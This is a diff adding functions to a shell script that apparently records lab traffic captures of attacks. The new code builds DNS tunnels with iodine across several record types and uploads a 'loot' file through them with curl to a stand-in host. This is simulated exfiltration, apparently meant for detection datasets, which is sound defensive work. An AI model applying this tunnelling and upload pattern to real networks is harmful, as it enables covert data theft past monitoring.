@@ -178,6 +178,43 @@ record_exfiltration() {
     capture_end
 }
 
+# One client of iodine for each type of record that it knows, all below one domain: pings through the
+# tunnel, then a file that does not compress.
+record_dns_tunnel() {
+    net_up
+    local types=(null private txt srv mx cname a) type n=31
+    daemon out iodined iodined -f -c -P secret -l 203.0.113.53 172.31.99.1/27 t.tunnel.example
+    sleep 1
+    daemon out sink "$HERE/client.py" serve --port 80
+    wait_port out any 80
+    head -c 12000 /dev/zero | openssl enc -aes-128-ctr -K 00 -iv 00 -out "$WORK/loot" 2>/dev/null
+    for type in "${types[@]}"; do
+        host_up "ws-$type" "$n"
+        n=$((n + 1))
+    done
+    capture_on sw br0 "$RAW"
+    local workers=()
+    for type in "${types[@]}"; do
+        dns_tunnel "ws-$type" "$type" &
+        workers+=("$!")
+    done
+    wait "${workers[@]}"
+    capture_end
+}
+
+# dns_tunnel HOST TYPE
+dns_tunnel() {
+    local tries
+    daemon "$1" "iodine-$2" iodine -f -r -T "$2" -P secret -m 300 203.0.113.53 t.tunnel.example
+    for tries in $(seq 300); do
+        if on "$1" ip -4 addr show dns0 2>/dev/null | grep -q inet; then break; fi
+        sleep 0.1
+    done
+    on "$1" ping -q -c 20 -i 0.5 -s 120 172.31.99.1 >"$WORK/ping-$2.txt" || true
+    on "$1" curl -s -m 30 -o /dev/null -T "$WORK/loot" http://172.31.99.1/in || true
+    echo "$2: $tries, $(grep -h received "$WORK/ping-$2.txt")" >&2
+}
+
 record_syn_flood() {
     "$GENERATOR" syn-flood --packets 9000 --sources 9000 --rate 220 --dst 10.1.0.80 --dst-port 443 \
         --real-flows 40 --seed 1 --out "$RAW"
